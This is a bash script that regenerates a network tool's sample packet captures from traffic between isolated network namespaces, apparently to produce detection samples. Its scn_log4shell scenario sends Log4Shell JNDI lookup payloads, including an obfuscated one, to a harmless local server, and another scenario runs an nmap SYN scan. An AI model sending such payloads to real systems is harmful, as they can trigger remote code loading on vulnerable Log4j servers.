#!/usr/bin/env bash
# mksamples.sh - regenerate kanshi's bundled sample captures.
#
# Usage: sudo tools/mksamples.sh [OUTDIR]      (default: samples/ in the repo)
#
# Every capture is made from real programs talking to each other across
# veth pairs between throwaway network namespaces, recorded with tcpdump
# running inside a namespace.  Nothing here touches the host's own network:
# all addresses are private (10.77.0.0/16, fd77::/16) and only exist inside
# the namespaces, which are removed again on exit (also on failure).
#
# Environment:
#   SAMPLES="http dns ..."      only these scenarios (default: all; the names are scn_* below)
#   VLAN_MODE=auto|kernel|vde   how vlan-ipv6-ping.pcap gets its 802.1Q tags
#       kernel: "ip link add link veth0 name veth0.42 type vlan id 42"
#       vde:    hosts on access ports of two vde_switch instances, joined by
#               a tagged trunk across a veth pair (for kernels without 8021q)
#       auto (default): kernel if the kernel supports VLAN devices, else vde
set -euo pipefail

# Debian packages this script needs (checked, never installed silently).
REQUIRED_PACKAGES="iproute2 ethtool tcpdump curl python3 python3-aiosmtpd bind9-dnsutils dnsmasq-base nmap openssh-client openssh-server swaks iputils-ping vde2 gzip"

readonly NS_SRV=kanshi-srv NS_CLI=kanshi-cli NS_SW=kanshi-sw NS_PROBE=kanshi-probe
readonly ALL_NS="$NS_SRV $NS_CLI $NS_SW $NS_PROBE"
readonly SRV4=10.77.0.1 CLI4=10.77.0.2
readonly SRV_MAC=02:77:00:00:00:01 CLI_MAC=02:77:00:00:00:02
readonly VLAN_ID=42
readonly VSRV4=10.77.42.1 VCLI4=10.77.42.2 VSRV6=fd77:42::1 VCLI6=fd77:42::2
readonly VSRV_MAC=02:77:00:00:42:01 VCLI_MAC=02:77:00:00:42:02
readonly VNI=42
readonly XSRV4=10.77.1.1 XCLI4=10.77.1.2
readonly XSRV_MAC=02:77:00:00:01:01 XCLI_MAC=02:77:00:00:01:02
readonly PY=/usr/bin/python3

export LC_ALL=C TZ=UTC

WORK=""
BG_PIDS=()
LAST_PID=""
CAP_PID=""
CREATED_RUN_SSHD=0

log() { printf '[mksamples] %s\n' "$*" >&2; }
die() { printf '[mksamples] ERROR: %s\n' "$*" >&2; exit 1; }

# --------------------------------------------------------------------------
# preflight

check_root() {
	[[ ${EUID} -eq 0 ]] || die "must run as root (network namespaces, raw sockets): sudo $0 $*"
}

check_packages() {
	local p missing=()
	for p in ${REQUIRED_PACKAGES}; do
		if [[ "$(dpkg-query -W -f='${db:Status-Status}' "$p" 2>/dev/null || true)" != installed ]]; then
			missing+=("$p")
		fi
	done
	if ((${#missing[@]})); then
		log "missing Debian packages: ${missing[*]}"
		log "install them with:"
		printf 'apt-get install -y --no-install-recommends %s\n' "${missing[*]}" >&2
		exit 1
	fi
}

# --------------------------------------------------------------------------
# process and namespace helpers

nsx() { local ns=$1; shift; ip netns exec "$ns" "$@"; }

# start_bg NAME NS CMD...: run CMD in namespace NS in the background,
# logging to $WORK/log/NAME.log; the pid is left in LAST_PID.  Its stdin
# is $BG_STDIN (opened read-write) or /dev/null.
start_bg() {
	local name=$1 ns=$2; shift 2
	ip netns exec "$ns" "$@" <>"${BG_STDIN:-/dev/null}" >"$WORK/log/$name.log" 2>&1 &
	LAST_PID=$!
	BG_PIDS+=("$LAST_PID")
}

stop_pid() {
	local pid=$1 sig=${2:-TERM}
	kill -"$sig" "$pid" 2>/dev/null || true
	wait "$pid" 2>/dev/null || true
}

# wait_listen NS tcp|udp PORT: wait until something listens on PORT in NS.
wait_listen() {
	local ns=$1 proto=$2 port=$3 flag i
	[[ $proto == tcp ]] && flag=-Hltn || flag=-Hlun
	for ((i = 0; i < 100; i++)); do
		if [[ -n "$(nsx "$ns" ss "$flag" "sport = :$port" 2>/dev/null)" ]]; then
			return 0
		fi
		sleep 0.1
	done
	die "nothing listening on $proto/$port in $ns (see $WORK/log/)"
}

# wait_for DESCRIPTION CMD...: retry CMD for up to 10 s.
wait_for() {
	local what=$1 i; shift
	for ((i = 0; i < 100; i++)); do
		if "$@" >/dev/null 2>&1; then
			return 0
		fi
		sleep 0.1
	done
	die "timed out waiting for $what"
}

ns_exists() { [[ -e /run/netns/$1 ]]; }

# Kill every process inside our namespaces, reap our children, delete the
# namespaces.  Safe to call any number of times.
teardown() {
	local ns pids i pid
	for ns in ${ALL_NS}; do
		ns_exists "$ns" || continue
		pids=$(ip netns pids "$ns" 2>/dev/null || true)
		if [[ -n $pids ]]; then
			# shellcheck disable=SC2086 # word splitting of the pid list is wanted
			kill -TERM $pids 2>/dev/null || true
			for ((i = 0; i < 30; i++)); do
				[[ -z "$(ip netns pids "$ns" 2>/dev/null || true)" ]] && break
				sleep 0.1
			done
			pids=$(ip netns pids "$ns" 2>/dev/null || true)
			# shellcheck disable=SC2086
			[[ -z $pids ]] || kill -KILL $pids 2>/dev/null || true
		fi
	done
	for pid in "${BG_PIDS[@]}"; do
		kill -TERM "$pid" 2>/dev/null || true
		wait "$pid" 2>/dev/null || true
	done
	BG_PIDS=()
	CAP_PID=""
	for ns in ${ALL_NS}; do
		if ns_exists "$ns"; then
			ip netns del "$ns" 2>/dev/null || true
		fi
	done
}

on_exit() {
	local rc=$?
	trap - EXIT INT TERM
	teardown
	if ((CREATED_RUN_SSHD)); then
		rmdir /run/sshd 2>/dev/null || true
	fi
	if [[ -n $WORK && -d $WORK ]]; then
		if ((rc != 0)) && [[ -d $WORK/log ]]; then
			log "failed (exit $rc); last lines of the logs:"
			tail -n 5 "$WORK"/log/*.log >&2 2>/dev/null || true
		fi
		rm -rf -- "$WORK"
	fi
	exit "$rc"
}

# sysctl inside a namespace; keys use '/' so interface names may hold dots.
nsysctl() { nsx "$1" sysctl -q -w "$2=$3" >/dev/null; }

# Disable offloads so that captured packets carry real checksums and are
# never larger than the MTU.
no_offload() { nsx "$1" ethtool -K "$2" tx off sg off tso off gso off gro off >/dev/null 2>&1 || true; }

new_ns() {
	local ns=$1
	ip netns add "$ns"
	nsx "$ns" ip link set lo up
	# IPv6 only where a scenario turns it on, and no router solicitations.
	nsysctl "$ns" net/ipv6/conf/default/disable_ipv6 1
	nsysctl "$ns" net/ipv6/conf/default/router_solicitations 0
}

# setup_pair: namespaces kanshi-srv and kanshi-cli joined by a veth pair
# (both ends are called veth0), with 10.77.0.1 and 10.77.0.2.
setup_pair() {
	new_ns "$NS_SRV"
	new_ns "$NS_CLI"
	ip -n "$NS_SRV" link add veth0 address "$SRV_MAC" type veth \
		peer name veth0 address "$CLI_MAC" netns "$NS_CLI"
	no_offload "$NS_SRV" veth0
	no_offload "$NS_CLI" veth0
	ip -n "$NS_SRV" addr add "$SRV4/24" dev veth0
	ip -n "$NS_CLI" addr add "$CLI4/24" dev veth0
	ip -n "$NS_SRV" link set veth0 up
	ip -n "$NS_CLI" link set veth0 up
}

# capture_start NS IFACE NAME: tcpdump into $WORK/out/NAME.pcap
capture_start() {
	local ns=$1 ifc=$2 name=$3
	start_bg "tcpdump-$name" "$ns" tcpdump -i "$ifc" -s 65535 -U --immediate-mode \
		-Z root -w "$WORK/out/$name.pcap"
	CAP_PID=$LAST_PID
	wait_for "tcpdump on $ifc in $ns" grep -q 'listening on' "$WORK/log/tcpdump-$name.log"
	sleep 0.3
}

capture_stop() {
	sleep 0.7 # let the last ACKs / FINs through
	stop_pid "$CAP_PID" INT
	CAP_PID=""
}

# --------------------------------------------------------------------------
# servers

make_content() {
	mkdir -p "$WORK/www/files" "$WORK/mail"
	cat >"$WORK/www/index.html" <<'EOF'
<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>kanshi sample page</title></head>
<body>
<h1>kanshi sample page</h1>
<p>This page was served inside a network namespace to make a sample capture.</p>
<p><a href="/files/notes.txt.gz">notes.txt.gz</a></p>
</body>
</html>
EOF
	{
		echo "kanshi sample download"
		local i
		for ((i = 1; i <= 40; i++)); do
			printf 'line %02d: the quick brown fox jumps over the lazy dog\n' "$i"
		done
	} | gzip -9 -n >"$WORK/www/files/notes.txt.gz"
	cat >"$WORK/mail/report.txt" <<'EOF'
kanshi sample attachment
host,port,state
10.77.0.1,25,open
10.77.0.1,80,open
EOF
}

# start_http NS ADDR: python3 http.server on ADDR:80 serving $WORK/www
start_http() {
	start_bg "http-$1" "$1" "$PY" -m http.server --bind "$2" --directory "$WORK/www" \
		--protocol HTTP/1.1 80
	wait_listen "$1" tcp 80
}

# start_dns NS ADDR...: dnsmasq answering for example.test on ADDR(s):53
start_dns() {
	local ns=$1 a args=(); shift
	for a in "$@"; do args+=("--listen-address=$a"); done
	start_bg "dnsmasq-$ns" "$ns" dnsmasq --keep-in-foreground --conf-file=/dev/null \
		--pid-file="$WORK/dnsmasq-$ns.pid" --log-facility=- --log-queries \
		--bind-interfaces "${args[@]}" \
		--no-resolv --no-hosts --no-poll --local=/example.test/ \
		--host-record=www.example.test,10.77.0.80,fd77::80 \
		--host-record=mail.example.test,10.77.0.25,fd77::25 \
		--mx-host=example.test,mail.example.test,10 \
		--txt-record=example.test,"v=spf1 mx -all" \
		--txt-record=_kanshi.example.test,"kanshi sample capture"
	wait_listen "$ns" udp 53
}

# --------------------------------------------------------------------------
# scenarios

scn_http() {
	log "http-curl: curl -> python3 http.server on $SRV4:80"
	setup_pair
	start_http "$NS_SRV" "$SRV4"
	capture_start "$NS_SRV" veth0 http-curl
	# one keep-alive connection: 200 text/html, 200 gzip, then a 404 after
	# which the server closes the connection.
	nsx "$NS_CLI" curl -sS --max-time 10 -w '%{http_code} %{url_effective}\n' \
		-o /dev/null -o /dev/null -o /dev/null \
		"http://$SRV4/" "http://$SRV4/files/notes.txt.gz" "http://$SRV4/missing.html" \
		>>"$WORK/log/clients.log"
	capture_stop
	teardown
}

scn_log4shell() {
	log "log4shell-curl: curl sends Log4Shell lookups to python3 http.server on $SRV4:80"
	setup_pair
	start_http "$NS_SRV" "$SRV4"
	capture_start "$NS_SRV" veth0 log4shell-curl
	# the lookup in a header, obfuscated and URL-encoded in a query, in the body of a POST;
	# 10.77.0.2 (the client) plays the attacker's LDAP/RMI/DNS server, which never answers
	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' \
		-H 'User-Agent: ${jndi:ldap://10.77.0.2:1389/Exploit}' "http://$SRV4/" \
		>>"$WORK/log/clients.log"
	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' -G \
		--data-urlencode 'q=${${lower:j}ndi:rmi://10.77.0.2:1099/x}' "http://$SRV4/search" \
		>>"$WORK/log/clients.log"
	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' \
		--data 'name=${jndi:dns://10.77.0.2/probe}' "http://$SRV4/form" \
		>>"$WORK/log/clients.log" || true
	capture_stop
	teardown
}

scn_dns() {
	log "dns-dig: dig -> dnsmasq on $SRV4:53 (udp + one tcp)"
	setup_pair
	start_dns "$NS_SRV" "$SRV4"
	capture_start "$NS_SRV" veth0 dns-dig
	local q
	for q in "www.example.test A" "www.example.test AAAA" "example.test MX" \
		"example.test TXT" "nosuch.example.test A"; do
		# shellcheck disable=SC2086 # "$q" is "name type"
		nsx "$NS_CLI" dig @"$SRV4" +time=3 +tries=1 $q >>"$WORK/log/clients.log"
	done
	nsx "$NS_CLI" dig @"$SRV4" +tcp +time=3 +tries=1 _kanshi.example.test TXT >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

scn_nmap() {
	log "nmap-scan: nmap -sS -p 1-200 $SRV4 (open: 53, 80)"
	setup_pair
	start_http "$NS_SRV" "$SRV4"
	start_dns "$NS_SRV" "$SRV4"
	wait_listen "$NS_SRV" tcp 53
	capture_start "$NS_SRV" veth0 nmap-scan
	nsx "$NS_CLI" nmap -n -sS -r -p 1-200 --max-retries 0 -T4 "$SRV4" >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

scn_ssh() {
	log "ssh-10022: ssh (ed25519 key) -> sshd on $SRV4:10022, runs uname -a"
	local d=$WORK/ssh shadow
	shadow=$(getent shadow root | cut -d: -f2 || true)
	[[ $shadow != '!'* ]] || die "root's password is locked ('!'), sshd (UsePAM no) would refuse the key login"
	mkdir -p "$d"
	if [[ ! -d /run/sshd ]]; then
		mkdir -m 0755 /run/sshd
		CREATED_RUN_SSHD=1
	fi
	ssh-keygen -q -t ed25519 -N '' -C kanshi-sample-host -f "$d/host_ed25519"
	ssh-keygen -q -t ed25519 -N '' -C kanshi-sample-client -f "$d/id_ed25519"
	cp "$d/id_ed25519.pub" "$d/authorized_keys"
	cat >"$d/sshd_config" <<EOF
Port 10022
ListenAddress $SRV4
HostKey $d/host_ed25519
PidFile none
AuthorizedKeysFile $d/authorized_keys
PermitRootLogin prohibit-password
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
UseDNS no
StrictModes no
PrintMotd no
PrintLastLog no
X11Forwarding no
LogLevel VERBOSE
EOF
	/usr/sbin/sshd -t -f "$d/sshd_config"
	setup_pair
	start_bg sshd "$NS_SRV" /usr/sbin/sshd -D -e -f "$d/sshd_config"
	wait_listen "$NS_SRV" tcp 10022
	capture_start "$NS_SRV" veth0 ssh-10022
	nsx "$NS_CLI" env -u SSH_AUTH_SOCK ssh -F /dev/null -i "$d/id_ed25519" -p 10022 \
		-o IdentitiesOnly=yes -o IdentityAgent=none -o BatchMode=yes \
		-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
		-o ConnectTimeout=10 "root@$SRV4" 'uname -a' </dev/null >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

scn_smtp() {
	log "smtp-swaks: swaks -> aiosmtpd on $SRV4:25, one mail with an attachment"
	setup_pair
	start_bg aiosmtpd "$NS_SRV" "$PY" -m aiosmtpd -n -l "$SRV4:25"
	wait_listen "$NS_SRV" tcp 25
	capture_start "$NS_SRV" veth0 smtp-swaks
	nsx "$NS_CLI" swaks --server "$SRV4" --port 25 --timeout 10 \
		--helo client.example.test --from alice@example.test --to bob@example.test \
		--header 'Subject: kanshi sample mail' \
		--header 'Message-Id: <kanshi-sample-1@client.example.test>' \
		--body 'Hello Bob, the scan report is attached. -- Alice' \
		--attach-type text/csv --attach @"$WORK/mail/report.txt" >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

# Can this kernel make 802.1Q VLAN devices (8021q)?
kernel_has_vlan() {
	local rc=0
	new_ns "$NS_PROBE"
	ip -n "$NS_PROBE" link add veth0 type veth peer name veth1
	ip -n "$NS_PROBE" link add link veth0 name "veth0.$VLAN_ID" type vlan id "$VLAN_ID" \
		2>/dev/null || rc=1
	ip netns del "$NS_PROBE"
	return "$rc"
}

# VLAN with the kernel's 8021q: veth0.42 on top of veth0 in both hosts,
# captured on the server's veth0 (the parent), where the tags are visible.
vlan_setup_kernel() {
	new_ns "$NS_SRV"
	new_ns "$NS_CLI"
	ip -n "$NS_SRV" link add veth0 address "$SRV_MAC" type veth \
		peer name veth0 address "$CLI_MAC" netns "$NS_CLI"
	ip -n "$NS_SRV" link add link veth0 name "veth0.$VLAN_ID" address "$VSRV_MAC" \
		type vlan id "$VLAN_ID"
	ip -n "$NS_CLI" link add link veth0 name "veth0.$VLAN_ID" address "$VCLI_MAC" \
		type vlan id "$VLAN_ID"
	local ns
	for ns in "$NS_SRV" "$NS_CLI"; do
		no_offload "$ns" veth0
		no_offload "$ns" "veth0.$VLAN_ID"
		nsysctl "$ns" "net/ipv6/conf/veth0.$VLAN_ID/disable_ipv6" 0
		ip -n "$ns" link set veth0 up
	done
	VLAN_IF=veth0.$VLAN_ID CAP_NS=$NS_SRV CAP_IF=veth0
}

# VLAN without 8021q: each host has a tap (vlan42) on an untagged access
# port of VLAN 42 of its own vde_switch; the two switches are joined by a
# tagged trunk that runs over the veth pair trunk0/trunk1 in kanshi-sw
# (tc mirred moves frames between each switch's trunk tap and the veth).
vlan_setup_vde() {
	local i sw ns ctl fifo mac
	new_ns "$NS_SW"
	new_ns "$NS_SRV"
	new_ns "$NS_CLI"
	printf '%s\n' "vlan/create $VLAN_ID" "port/create 1" "port/create 2" \
		"port/setvlan 1 $VLAN_ID" "vlan/addport $VLAN_ID 2" >"$WORK/vde/switch.rc"
	ip -n "$NS_SW" link add trunk0 type veth peer name trunk1
	for i in 0 1; do
		ctl=$WORK/vde/sw$i.ctl
		fifo=$WORK/vde/sw$i.stdin
		mkfifo "$fifo"
		# vde_switch reads commands from stdin and exits on EOF: give it a
		# FIFO that it holds open for writing itself.
		BG_STDIN=$fifo start_bg "vde_switch$i" "$NS_SW" vde_switch -s "$ctl" \
			-M "$WORK/vde/sw$i.mgmt" -f "$WORK/vde/switch.rc"
		wait_for "vde_switch $i" test -S "$ctl/ctl"
		# port 1: host access port (untagged VLAN 42), port 2: trunk (tagged)
		if ((i == 0)); then ns=$NS_SRV mac=$VSRV_MAC; else ns=$NS_CLI mac=$VCLI_MAC; fi
		start_bg "vde_plug2tap-host$i" "$ns" vde_plug2tap -s "$ctl" -p 1 "vlan$VLAN_ID"
		start_bg "vde_plug2tap-trunk$i" "$NS_SW" vde_plug2tap -s "$ctl" -p 2 "vtrunk$i"
		wait_for "tap vlan$VLAN_ID in $ns" ip -n "$ns" link show "vlan$VLAN_ID"
		wait_for "tap vtrunk$i" ip -n "$NS_SW" link show "vtrunk$i"
		ip -n "$ns" link set "vlan$VLAN_ID" address "$mac"
		nsysctl "$ns" "net/ipv6/conf/vlan$VLAN_ID/disable_ipv6" 0
		no_offload "$NS_SW" "trunk$i"
		for sw in "vtrunk$i" "trunk$i"; do
			ip -n "$NS_SW" link set "$sw" up
			nsx "$NS_SW" tc qdisc add dev "$sw" clsact
		done
		nsx "$NS_SW" tc filter add dev "vtrunk$i" ingress protocol all u32 match u32 0 0 \
			action mirred egress redirect dev "trunk$i"
		nsx "$NS_SW" tc filter add dev "trunk$i" ingress protocol all u32 match u32 0 0 \
			action mirred egress redirect dev "vtrunk$i"
	done
	VLAN_IF=vlan$VLAN_ID CAP_NS=$NS_SW CAP_IF=trunk0
}

scn_vlan() {
	local mode=${VLAN_MODE:-auto}
	VLAN_IF="" CAP_NS="" CAP_IF=""
	mkdir -p "$WORK/vde"
	case $mode in
	auto)
		if kernel_has_vlan; then
			mode=kernel
		else
			log "vlan: this kernel has no 802.1Q VLAN devices, using a vde_switch trunk"
			mode=vde
		fi
		;;
	kernel) kernel_has_vlan || die "VLAN_MODE=kernel but this kernel has no 802.1Q VLAN devices" ;;
	vde) ;;
	*) die "VLAN_MODE must be auto, kernel or vde" ;;
	esac
	if [[ $mode == kernel ]]; then vlan_setup_kernel; else vlan_setup_vde; fi
	log "vlan-ipv6-ping: ping/ping -6/dig over VLAN $VLAN_ID, captured on $CAP_IF ($CAP_NS)"
	ip -n "$NS_SRV" addr add "$VSRV4/24" dev "$VLAN_IF"
	ip -n "$NS_SRV" addr add "$VSRV6/64" dev "$VLAN_IF" nodad
	ip -n "$NS_CLI" addr add "$VCLI4/24" dev "$VLAN_IF"
	ip -n "$NS_CLI" addr add "$VCLI6/64" dev "$VLAN_IF" nodad
	# capture from before the VLAN links come up, so the IPv6 link-up
	# chatter (MLDv2 reports with a hop-by-hop header) is always included
	capture_start "$CAP_NS" "$CAP_IF" vlan-ipv6-ping
	ip -n "$NS_SRV" link set "$VLAN_IF" up
	ip -n "$NS_CLI" link set "$VLAN_IF" up
	start_dns "$NS_SRV" "$VSRV4" "$VSRV6"
	sleep 1.5 # let the unsolicited MLD reports finish
	{
		nsx "$NS_CLI" ping -c 3 -i 0.3 -W 2 "$VSRV4"
		nsx "$NS_CLI" ping -6 -c 3 -i 0.3 -W 2 "$VSRV6"
		nsx "$NS_CLI" dig @"$VSRV4" +time=3 +tries=1 www.example.test A
		nsx "$NS_CLI" dig @"$VSRV6" +time=3 +tries=1 www.example.test AAAA
	} >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

scn_vxlan() {
	log "vxlan-http: curl -> http.server inside VXLAN VNI $VNI (udp/4789), captured on the underlay"
	setup_pair
	local ns local_ip remote_ip mac addr
	for ns in "$NS_SRV" "$NS_CLI"; do
		if [[ $ns == "$NS_SRV" ]]; then
			local_ip=$SRV4 remote_ip=$CLI4 mac=$XSRV_MAC addr=$XSRV4
		else
			local_ip=$CLI4 remote_ip=$SRV4 mac=$XCLI_MAC addr=$XCLI4
		fi
		if ! ip -n "$ns" link add "vxlan$VNI" address "$mac" type vxlan id "$VNI" \
			dstport 4789 local "$local_ip" remote "$remote_ip" dev veth0 2>/dev/null; then
			log "vxlan-http: kernel has no VXLAN support, skipping this capture"
			teardown
			return 0
		fi
		no_offload "$ns" "vxlan$VNI"
		ip -n "$ns" addr add "$addr/24" dev "vxlan$VNI"
		ip -n "$ns" link set "vxlan$VNI" up
	done
	start_http "$NS_SRV" "$XSRV4"
	capture_start "$NS_SRV" veth0 vxlan-http
	nsx "$NS_CLI" curl -sS --max-time 10 -o /dev/null -w '%{http_code} %{url_effective}\n' \
		"http://$XSRV4/index.html" >>"$WORK/log/clients.log"
	capture_stop
	teardown
}

# --------------------------------------------------------------------------

main() {
	check_root "$@"
	case ${VLAN_MODE:-auto} in
	auto | kernel | vde) ;;
	*) die "VLAN_MODE must be auto, kernel or vde" ;;
	esac
	check_packages
	local repo outdir
	repo=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
	outdir=${1:-$repo/samples}

	trap on_exit EXIT
	trap 'exit 130' INT
	trap 'exit 143' TERM

	# leftovers of an interrupted earlier run
	teardown
	WORK=$(mktemp -d /tmp/kanshi-mksamples.XXXXXX)
	mkdir -p "$WORK/log" "$WORK/out"
	make_content

	local scn
	for scn in ${SAMPLES:-http dns nmap ssh smtp vlan vxlan log4shell}; do
		"scn_$scn"
	done

	mkdir -p "$outdir"
	local f name size pkts
	for f in "$WORK"/out/*.pcap; do
		name=${f##*/}
		[[ -s $f ]] || die "$name is empty"
		install -m 0644 "$f" "$outdir/$name"
		size=$(stat -c %s "$f")
		# one line per packet starts with the epoch time (tunnels add lines)
		pkts=$(tcpdump -nn -tt -r "$f" 2>/dev/null | grep -c '^[0-9][0-9]*\.[0-9]')
		printf '%-22s %8d bytes %5d packets\n' "$name" "$size" "$pkts"
	done
	log "captures written to $outdir"
}

main "$@"
